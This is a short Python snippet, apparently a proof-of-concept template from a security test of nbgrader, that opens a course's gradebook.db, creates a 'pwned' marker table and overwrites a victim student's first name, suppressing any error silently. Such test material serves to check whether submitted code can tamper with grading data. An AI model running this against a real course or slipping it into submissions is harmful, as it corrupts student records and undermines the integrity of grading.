# Write into nbgrader's gradebook.db: a new table, and a victim's first name changed.
def _attack():
    import sqlite3

    db = sqlite3.connect("{COURSE}/gradebook.db", timeout=10)
    try:
        db.execute("CREATE TABLE pwned_{MARKER} (note TEXT)")
        db.execute("UPDATE student SET first_name = ? WHERE id = ?", ("{MARKER}", "{VICTIM_ID}"))
        db.commit()
    finally:
        db.close()


try:
    _attack()
except Exception:
    pass
